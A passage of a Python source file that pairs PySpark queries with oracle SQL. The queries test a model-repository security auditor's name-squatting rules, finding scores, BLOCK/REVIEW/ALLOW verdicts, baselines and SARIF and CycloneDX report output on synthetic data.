e(c, rule_id, severity) AS (VALUES (0, 'SQT-003', 'HIGH'), (1, 'SQT-004', 'MEDIUM'), (2, 'SQT-006', 'MEDIUM'), (3, 'SQT-006', 'HIGH'), (4, 'SQT-001', 'HIGH'))
SELECT k, rule_id, severity FROM i JOIN e USING (c) UNION ALL SELECT k, 'SQT-009', 'INFO' FROM i""",
)
def name_rules_odd(spark, sf_dir):
    """Look-alikes, embedded names, mistyped models and other scripts, against a corpus of 91 days."""
    ids = _table(spark, sf_dir, "customer").select(F.col("c_custkey").cast("string").alias("target_id"), _pick(_ODD_IDS, F.col("c_custkey") % len(_ODD_IDS)).alias("repo_id"))
    found = naming.findings(ids, naming.seed_corpus(spark), 91).where("rule_id in ('SQT-001', 'SQT-003', 'SQT-004', 'SQT-006', 'SQT-009')")
    return found.select(F.col("target_id").cast("long").alias("k"), "rule_id", "severity")


@_query("non_ascii", r"SELECT doc_id FROM documents WHERE regexp_matches(text, '[^\x00-\x7F]')")
def non_ascii(spark, sf_dir):
    from ..functions.names import non_ascii as odd

    return _table(spark, sf_dir, "documents").where(odd(F.col("text"))).select("doc_id")


@_query(
    "corpus_refresh",
    """WITH t AS (SELECT p_brand || '/' || p_name AS id, sum(p_size) AS downloads FROM part GROUP BY 1 ORDER BY downloads DESC, id LIMIT 100)
SELECT DISTINCT 'org' AS kind, split_part(id, '/', 1) AS name FROM t UNION SELECT DISTINCT 'model', lower(substr(id, strpos(id, '/') + 1)) FROM t""",
)
def corpus_refresh(spark, sf_dir):
    listing = _table(spark, sf_dir, "part").groupBy(F.concat_ws("/", "p_brand", "p_name").alias("id")).agg(F.sum("p_size").alias("downloads"))
    return naming.refreshed_corpus(listing, 100)


# --- governance ------------------------------------------------------------------------------------

_RULES = ["FMT-001", "PKL-001", "ZIP-003", "STF-005", "CFG-001", "PRV-005", "REPO-004", "TPL-001", "SIG-002", "NB-001", "PY-002", "SQT-007"]
_CONF = ["high", "medium", "low"]
_FINDINGS = f"SELECT 'u' || user_id || '-' || event_id % 60 AS target_id, {_sql_pick(_RULES, 'event_id % 12')} AS rule_id, {_sql_pick(list(SEVERITIES), 'CAST(value * 10 AS BIGINT) % 5')} AS severity, {_sql_pick(_CONF, 'event_id % 3')} AS confidence, 'f' || event_id % 50 AS location, event_type AS detail FROM events"


def _findings(spark, sf_dir) -> DataFrame:
    e = _table(spark, sf_dir, "events")
    # rounded half to even, as the SQL's cast does
    severity = _pick(list(SEVERITIES), F.bround(F.col("value") * 10).cast("long") % 5)
    return e.select(F.concat(F.lit("u"), F.col("user_id").cast("string"), F.lit("-"), (F.col("event_id") % 60).cast("string")).alias("target_id"), _pick(_RULES, F.col("event_id") % 12).alias("rule_id"), severity.alias("severity"), F.lit("execution").alias("category"), _pick(_CONF, F.col("event_id") % 3).alias("confidence"), F.concat(F.lit("f"), (F.col("event_id") % 50).cast("string")).alias("location"), F.col("event_type").alias("detail"), F.array("event_type").alias("evidence"))


def _scored(source: str) -> str:
    weight = "CASE severity " + " ".join(f"WHEN '{s}' THEN {w}" for s, w in K.SEVERITY_WEIGHT.items()) + " END"
    factor = "CASE confidence " + " ".join(f"WHEN '{c}' THEN {w}" for c, w in K.CONFIDENCE_FACTOR.items()) + " END"
    rank = "CASE severity " + " ".join(f"WHEN '{s}' THEN {i}" for i, s in enumerate(SEVERITIES)) + " END"
    return f"""SELECT target_id, CAST(least(round_even(round(sum(w * f * pow({K.DECAY}, i - 1)), 9), 0), 100) AS INTEGER) AS score, max(r) AS max_rank,
  {', '.join(f"count(*) FILTER (severity = '{s}') AS n_{s.lower()}" for s in SEVERITIES)}
FROM (SELECT *, {weight} AS w, {factor} AS f, {rank} AS r, row_number() OVER (PARTITION BY target_id, severity ORDER BY {factor} DESC) AS i FROM {source}) GROUP BY target_id"""


_VERDICT = f"CASE WHEN max_rank = 4 OR score >= 60 THEN 'BLOCK' WHEN max_rank >= 3 OR score >= 20 THEN 'REVIEW' ELSE 'ALLOW' END AS verdict, {_sql_pick(list(SEVERITIES), 'max_rank')} AS max_severity"


@_query("score", f"WITH f AS ({_FINDINGS}) SELECT target_id, score FROM ({_scored('f')})")
def score(spark, sf_dir):
    return governance.scores(_findings(spark, sf_dir)).select("target_id", "score")


@_query("severity_counts", f"WITH f AS ({_FINDINGS}) SELECT target_id, n_critical, n_high, n_medium, n_low, n_info FROM ({_scored('f')})")
def severity_counts(spark, sf_dir):
    return governance.scores(_findings(spark, sf_dir)).select("target_id", *[f"n_{s.lower()}" for s in SEVERITIES])


@_query(
    "verdict",
    f"""WITH a AS ({_FINDINGS}), f AS (SELECT * FROM a WHERE rule_id NOT IN ('SQT-007', 'FMT-001', 'CFG-001', 'PRV-005')),
t AS (SELECT DISTINCT target_id FROM a), s AS (SELECT target_id, coalesce(score, 0) AS score, coalesce(max_rank, 0) AS max_rank FROM t LEFT JOIN ({_scored('f')}) USING (target_id))
SELECT target_id, score, {_VERDICT} FROM s""",
)
def verdict(spark, sf_dir):
    """Verdicts under a policy; a target that the policy leaves no finding has one too."""
    policy = governance.Policy(allow_pickle=True, allow_remote_code=True, ignore_rules=frozenset({"SQT-007"}))
    f = _findings(spark, sf_dir)
    return governance.verdicts(f, f, policy).select("target_id", "score", "verdict", "max_severity")


@_query(
    "exit_code",
    f"""WITH a AS ({_FINDINGS}), f AS (SELECT * FROM a WHERE detail <> 'click'), t AS (SELECT DISTINCT target_id FROM a),
s AS (SELECT target_id, x.target_id IS NULL AS bare, coalesce(score, 0) AS score, coalesce(max_rank, 0) AS max_rank FROM t LEFT JOIN ({_scored('f')}) x USING (target_id)),
v AS (SELECT *, {_VERDICT} FROM s)
SELECT verdict, CASE WHEN bare AND target_id LIKE '%7' THEN 3 WHEN verdict = 'BLOCK' THEN 2 WHEN verdict = 'REVIEW' THEN 1 ELSE 0 END AS exit_code, count(*) AS n FROM v GROUP BY ALL""".replace("x.target_id IS NULL", "max_rank IS NULL"),
)
def exit_code(spark, sf_dir):
    """Targets without findings, some of which had files that couldn't be read, beside those with findings."""
    a = _findings(spark, sf_dir)
    errors = a.where("target_id like '%7'").select("target_id", F.lit("f").alias("path"), F.lit("unreadable").alias("error"))
    return governance.verdicts(a.where("detail <> 'click'"), a, errors=errors).groupBy("verdict", "exit_code").agg(F.count(F.lit(1)).alias("n"))


@_query("policy_filter", f"SELECT rule_id, count(*) AS n FROM ({_FINDINGS}) WHERE rule_id NOT IN ('PKL-001', 'CFG-001', 'PRV-005') AND target_id NOT IN ('u1-1', 'u2-2') GROUP BY 1")
def policy_filter(spark, sf_dir):
    policy = governance.Policy(allow_remote_code=True, ignore_rules=frozenset({"PKL-001"}), allowlist_repos=frozenset({"u1-1", "u2-2"}))
    return governance.apply_policy(_findings(spark, sf_dir), policy).groupBy("rule_id").agg(F.count(F.lit(1)).alias("n"))


@_query("analyzer_filter", f"SELECT rule_id, count(*) AS n FROM ({_FINDINGS}) WHERE rule_id IN ('FMT-001', 'PKL-001', 'ZIP-003') GROUP BY 1")
def analyzer_filter(spark, sf_dir):
    return governance.choose_analyzers(_findings(spark, sf_dir), ["pickle", "archive", "hub"], ["hub"]).groupBy("rule_id").agg(F.count(F.lit(1)).alias("n"))


@_query("finding_order", f"SELECT rule_id, location, detail FROM ({_FINDINGS}) ORDER BY CASE severity {' '.join(f'WHEN {_quoted(s)} THEN {i}' for i, s in enumerate(SEVERITIES))} END DESC, rule_id DESC, location DESC, detail DESC LIMIT 100")
def finding_order(spark, sf_dir):
    """The first hundred in report order."""
    return governance.in_order(_findings(spark, sf_dir)).limit(100).select("rule_id", "location", "detail")


@_query(
    "baseline_diff",
    f"""WITH f AS ({_FINDINGS}), h AS (SELECT 'f' || doc_id % 50 AS p, max(sha256(text)) AS sha FROM documents GROUP BY 1),
k AS (SELECT f.*, coalesce(sha, '') AS sha, substr(location, 2)::INT AS nth FROM f LEFT JOIN h ON p = location AND substr(location, 2)::INT % 2 = 0),
b AS (SELECT DISTINCT rule_id, location, CASE WHEN sha <> '' AND nth % 3 = 0 THEN 'changed' ELSE sha END AS sha FROM k WHERE rule_id < 'PRV')
SELECT target_id, rule_id, location, count(*) AS n FROM k WHERE NOT EXISTS (SELECT 1 FROM b WHERE b.rule_id = k.rule_id AND b.location = k.location AND b.sha = k.sha) GROUP BY ALL""",
)
def baseline_diff(spark, sf_dir):
    """Half of the rules are in the baseline; of some files the content has changed since."""
    f = _findings(spark, sf_dir)
    h = _table(spark, sf_dir, "documents").groupBy(F.concat(F.lit("f"), (F.col("doc_id") % 50).cast("string")).alias("path")).agg(F.max(F.sha2("text", 256)).alias("sha256")).where("substring(path, 2) % 2 = 0")
    files = h.join(f.select("target_id", F.col("location").alias("path")).distinct(), "path")
    was = files.withColumn("sha256", F.when(F.expr("substring(path, 2) % 3 = 0"), "changed").otherwise(F.col("sha256")))
    base = governance.as_baseline(f.where("rule_id < 'PRV'"), was)
    return governance.new_findings(f, files, base).groupBy("target_id", "rule_id", "location").agg(F.count(F.lit(1)).alias("n"))


@_query(
    "sarif_rules",
    f"""WITH f AS ({_FINDINGS}) SELECT target_id, rule_id, CAST(max(CASE severity {' '.join(f'WHEN {_quoted(s)} THEN {i}' for i, s in enumerate(SEVERITIES))} END) AS INTEGER) AS top FROM f GROUP BY ALL""",
)
def sarif_rules(spark, sf_dir):
    from ..model import severity_rank

    return reports.first_of_rule(_findings(spark, sf_dir)).select("target_id", "rule_id", severity_rank(F.col("severity")).alias("top"))


@_query("json_report", f"SELECT target_id, count(*) AS n FROM ({_FINDINGS}) GROUP BY 1")
def json_report(spark, sf_dir):
    """Findings in each target's JSON document, counted from the text of the document."""
    f = _findings(spark, sf_dir)
    files = f.select("target_id", F.col("location").alias("path"), F.lit(1).cast("long").alias("size"), F.lit("text").alias("format"), F.lit(None).cast("string").alias("sha256")).distinct()
    docs = reports.json_report(f, files, governance.verdicts(f, f))
    return docs.select("target_id", F.size(F.from_json(F.get_json_object("document", "$.findings"), "array<struct<rule_id:string>>")).cast("long").alias("n"))


_LEVEL = "CASE severity WHEN 'CRITICAL' THEN 'error' WHEN 'HIGH' THEN 'error' WHEN 'MEDIUM' THEN 'warning' ELSE 'note' END"


@_query("sarif_results", f"SELECT target_id, rule_id, {_LEVEL} AS level, location AS uri, count(*) AS n FROM ({_FINDINGS}) GROUP BY ALL")
def sarif_results(spark, sf_dir):
    """Results as they stand in the text of each target's document."""
    f = _findings(spark, sf_dir)
    kind = "array<struct<ruleId:string,level:string,locations:array<struct<physicalLocation:struct<artifactLocation:struct<uri:string>>>>>>"
    results = reports.sarif(f, f).select("target_id", F.explode(F.from_json(F.get_json_object("document", "$.runs[0].results"), kind)).alias("r"))
    uri = F.col("r.locations")[0]["physicalLocation"]["artifactLocation"]["uri"]
    return results.groupBy("target_id", F.col("r.ruleId").alias("rule_id"), F.col("r.level").alias("level"), uri.alias("uri")).agg(F.count(F.lit(1)).alias("n"))


@_query(
    "cyclonedx_parts",
    f"""WITH f AS ({_FINDINGS}), c AS (SELECT target_id, count(DISTINCT location) + 1 AS n_components FROM f GROUP BY 1)
SELECT target_id, lower(severity) AS severity, n_components, count(*) AS n FROM f JOIN c USING (target_id) GROUP BY ALL""",
)
def cyclonedx_parts(spark, sf_dir):
    """Components and rated flaws as they stand in the text of each target's bill."""
    f = _findings(spark, sf_dir)
    files = f.select("target_id", F.col("location").alias("path"), F.sha2("location", 256).alias("sha256")).distinct()
    bill = reports.cyclonedx(f, files).select("target_id", F.size(F.from_json(F.get_json_object("document", "$.components"), "array<struct<name:string>>")).cast("long").alias("n_components"), F.from_json(F.get_json_object("document", "$.vulnerabilities"), "array<struct<ratings:array<struct<severity:string>>>>").alias("v"))
    return bill.select("target_id", "n_components", F.explode("v").alias("x")).groupBy("target_id", F.col("x.ratings")[0]["severity"].alias("severity"), "n_components").agg(F.count(F.lit(1)).alias("n"))


@_query(
    "flagship",
    f"""WITH d AS (SELECT CAST(doc_id // 3 AS VARCHAR) AS target_id, CASE WHEN doc_id % 5 = 0 THEN 'README.md' ELSE doc_id || {_sql_pick(['.txt', '.gguf', '.so', '.safetensors', '.json'], 'doc_id % 5')} END AS path, doc_id % 10 AS h, doc_id FROM documents),
k AS (SELECT *, CASE WHEN h = 1 THEN 'gguf' WHEN h = 2 THEN 'native-executable' WHEN h = 3 THEN 'git-lfs-pointer' WHEN doc_id % 5 = 2 THEN 'code' WHEN doc_id % 5 IN (0, 4) THEN 'text' ELSE 'unknown' END AS format FROM d),
t AS (SELECT target_id, bool_or(path = 'README.md') AS readme, bool_or(ends_with(path, '.gguf') OR ends_with(path, '.safetensors')) AS weights FROM k GROUP BY 1),
f AS (SELECT target_id, 'INFO' AS severity, 'high' AS confidence FROM k WHERE format = 'gguf'
 UNION ALL SELECT target_id, 'LOW', 'low' FROM k WHERE format = 'gguf'
 UNION ALL SELECT target_id, CASE format WHEN 'code' THEN 'HIGH' ELSE 'CRITICAL' END, 'high' FROM k WHERE format IN ('code', 'native-executable')
 UNION ALL SELECT target_id, 'LOW', 'high' FROM k WHERE format = 'git-lfs-pointer'
 UNION ALL SELECT target_id, 'HIGH', 'high' FROM k WHERE format = 'git-lfs-pointer'
 UNION ALL SELECT target_id, 'LOW', 'low' FROM t WHERE NOT readme
 UNION ALL SELECT target_id, 'INFO', 'high' FROM t WHERE weights),
s AS (SELECT t.target_id, coalesce(score, 0) AS score, coalesce(max_rank, 0) AS max_rank FROM t LEFT JOIN ({_scored('f')}) x USING (target_id))
SELECT target_id, score, {_VERDICT} FROM s""",
)
def flagship(spark, sf_dir):
    """The whole audit over a file for each document: identification, every analyzer, score and verdict."""
    d = _table(spark, sf_dir, "documents")
    head = F.when(F.col("doc_id") % 10 == 1, F.unhex(F.lit("4747554609000000"))).when(F.col("doc_id") % 10 == 2, F.unhex(F.lit("7F454C46"))).when(F.col("doc_id") % 10 == 3, F.encode(F.lit(K.LFS_PREFIX), "UTF-8")).otherwise(F.encode(F.lit("# "), "UTF-8"))
    path = F.when(F.col("doc_id") % 5 == 0, "README.md").otherwise(F.concat(F.col("doc_id").cast("string"), _pick([".txt", ".gguf", ".so", ".safetensors", ".json"], F.col("doc_id") % 5)))
    rows = d.select(F.floor(F.col("doc_id") / 3).cast("string").alias("target_id"), path.alias("path"), F.concat(head, F.encode("text", "UTF-8")).alias("content"))
    return audit(described(rows)).verdicts.select("target_id", "score", "verdict", "max_severity")


def queries() -> dict[str, Query]:
    return dict(_QUERIES)


def oracle_sql() -> dict[str, str]:
    return dict(_SQL)
